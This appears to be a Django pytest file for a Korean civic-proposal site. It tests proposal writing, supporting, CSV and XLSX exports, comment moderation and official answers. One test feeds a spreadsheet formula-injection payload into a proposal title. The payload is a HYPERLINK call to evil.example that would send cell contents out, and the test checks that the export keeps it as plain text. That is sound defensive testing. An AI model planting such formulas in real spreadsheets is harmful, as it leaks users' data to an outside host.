"""Proposal pages through Django's test client: writing, supporting, lists as files, moderation,
answers."""

from __future__ import annotations

import io
import json

import pytest
from openpyxl import load_workbook

from hyeopchi.proposals import services
from hyeopchi.proposals.models import Proposal
from tests.factories import SYSTEM
from tests.support.helpers import client_for, download, text_of
from tests.support.proposals import Baro, people

pytestmark = pytest.mark.django_db


def test_writing_shows_similar_proposals_before_publishing(baro: Baro):
    baro.propose("횡단보도 그늘막 설치 요청", "신호 대기 중 햇볕을 피할 그늘막이 필요합니다.", actor=people(1, "w")[0])
    client = client_for(baro.author.user)
    data = {
        "addressee": baro.city.pk,
        "title": "교차로 그늘막을 설치해 주세요",
        "body": "햇볕을 피할 그늘막이 필요합니다.",
    }
    first = client.post("/gwangju/proposals/new/", data)
    assert first.status_code == 200
    assert "비슷한 제안이 이미 있습니다" in first.content.decode()
    assert "횡단보도 그늘막 설치 요청" in first.content.decode()
    assert Proposal.objects.count() == 1
    second = client.post("/gwangju/proposals/new/", {**data, "publish": "1"})
    created = Proposal.objects.get(title="교차로 그늘막을 설치해 주세요")
    assert (second.status_code, second["Location"]) == (302, f"/gwangju/proposals/{created.pk}/")
    fragment = client.get("/gwangju/proposals/similar/", {"title": "그늘막 설치"}).content.decode()
    assert fragment.count("<li>") == 2


def test_supporting_from_the_page_and_the_refusal_message(baro: Baro):
    proposal = baro.propose("심야 버스 노선 신설", "심야 노선이 필요합니다.")
    client = client_for(people(1, "s")[0].user)
    client.post(f"/gwangju/proposals/{proposal.pk}/support/do/")
    again = client.post(f"/gwangju/proposals/{proposal.pk}/support/do/", follow=True)
    proposal.refresh_from_db()
    assert proposal.support_count == 1
    assert "이미 공감한 제안입니다." in again.content.decode()
    assert client.post(f"/gwangju/proposals/{proposal.pk}/dance/do/").status_code == 404


def test_the_proposal_list_downloads_as_csv_with_korean_headers(baro: Baro):
    baro.recommend("청년 창업 공간 권고", "공유 사무실")

    body = download(client_for(None).get("/gwangju/proposals.csv")).decode("utf-8-sig")

    assert body.splitlines()[0].startswith("제안 번호,종류,제목")
    assert body.splitlines()[1].split(",")[2] == "청년 창업 공간 권고"


def test_a_moderator_blocks_the_author_of_a_reported_comment(baro: Baro):
    from hyeopchi.organizations.enums import OrganizationRoleName
    from hyeopchi.organizations.services import assign_role
    from hyeopchi.proposals.models import Block, Comment
    from tests.factories import UserFactory

    proposal = baro.propose("도서관 주차장 확충", "주차 공간이 부족합니다.")
    spammer = people(1, "spam")[0]
    comment = services.add_comment(actor=spammer, proposal=proposal, body="광고 링크")
    moderator = UserFactory(username="site-moderator")
    assign_role(actor=SYSTEM, user=moderator, organization=baro.city, role=OrganizationRoleName.ADMINISTRATOR)
    client = client_for(moderator)
    assert client_for(baro.author.user).get(f"/gwangju/moderation/block/{comment.pk}/").status_code == 403
    response = client.post(f"/gwangju/moderation/block/{comment.pk}/", {"reason": "광고 반복"})
    assert (response.status_code, response["Location"]) == (302, "/gwangju/moderation/")
    assert Block.objects.filter(site=baro.city, user__username="spam0").count() == 1
    assert Comment.objects.get(pk=comment.pk).visibility == "hidden"


def _reported_comment_and_moderator(baro: Baro):
    from hyeopchi.organizations.enums import OrganizationRoleName
    from hyeopchi.organizations.services import assign_role
    from tests.factories import UserFactory

    proposal = baro.propose("도서관 주차장 확충", "주차 공간이 부족합니다.")
    comment = services.add_comment(actor=people(1, "spam")[0], proposal=proposal, body="광고 링크")
    moderator = UserFactory(username="site-moderator")
    assign_role(actor=SYSTEM, user=moderator, organization=baro.city, role=OrganizationRoleName.ADMINISTRATOR)
    return proposal, comment, client_for(moderator)


def test_a_moderation_reason_keeps_its_text_without_nul_bytes(baro: Baro):
    from hyeopchi.core.models import AuditEvent

    proposal, comment, moderator = _reported_comment_and_moderator(baro)

    response = moderator.post(
        f"/gwangju/proposals/{proposal.pk}/comments/{comment.pk}/moderate/",
        {"action": "hide", "reason": "광고\x00 반복"},
    )

    assert response.status_code == 302
    assert json.loads(AuditEvent.objects.filter(verb="proposals.hidden").get().payload)["reason"] == "광고 반복"


def test_a_moderation_reason_over_500_characters_is_refused(baro: Baro):
    from hyeopchi.proposals.models import Comment

    proposal, comment, moderator = _reported_comment_and_moderator(baro)

    response = moderator.post(
        f"/gwangju/proposals/{proposal.pk}/comments/{comment.pk}/moderate/",
        {"action": "hide", "reason": "가" * 501},
        follow=True,
    )

    assert "500자 이내로 적어 주세요." in text_of(response)
    assert Comment.objects.get(pk=comment.pk).visibility == "visible"


def test_an_answer_names_the_person_who_gave_it(baro: Baro):
    from hyeopchi.organizations.models import Membership, Person, Post

    chair = Person.objects.create(name="권익위원장")
    post = Post.objects.create(organization=baro.rights_committee, name="위원장", role="chair")
    Membership.objects.create(post=post, person=chair, start_date="2020-01-01")
    proposal = baro.recommend("청년 주거 지원 권고", "주거비 지원", author_organization=baro.city)
    owed = services.request_answer(actor=SYSTEM, proposal=proposal, organization=baro.rights_committee, due_on=None)
    client = client_for(baro.committee_staff)
    form = client.get(f"/gwangju/proposals/{proposal.pk}/answers/{owed.pk}/").content.decode()
    assert f'<option value="{chair.pk}">권익위원장</option>' in form
    response = client.post(
        f"/gwangju/proposals/{proposal.pk}/answers/{owed.pk}/",
        {"outcome": "replied", "text": "검토 중입니다.", "respondent": chair.pk},
    )
    assert response.status_code == 302
    owed.refresh_from_db()
    assert (owed.respondent, owed.outcome) == (chair, "replied")


def test_a_formula_in_a_title_stays_text_in_the_public_spreadsheet(baro: Baro):
    baro.propose('=HYPERLINK("http://evil.example/?x="&A1,"x")', "제목이 수식입니다.")

    sheet = load_workbook(io.BytesIO(download(client_for(None).get("/gwangju/proposals.xlsx"))))
    title = sheet.worksheets[0].cell(row=2, column=3)

    assert (title.value, title.data_type) == ('\'=HYPERLINK("http://evil.example/?x="&A1,"x")', "s")


def test_supporting_in_place_answers_with_the_page_at_once(baro: Baro):
    proposal = baro.propose("도서관 야간 개관", "밤에도 열어 주세요.")
    supporter = people(1, "inplace")[0]

    response = client_for(supporter.user).post(f"/gwangju/proposals/{proposal.pk}/support/do/", HTTP_HX_REQUEST="true")

    html = response.content.decode()
    assert response.status_code == 200
    assert '<strong id="support-count">1</strong>' in html
    assert "공감했습니다" in html
    assert 'id="support-button">공감 취소</button>' in html
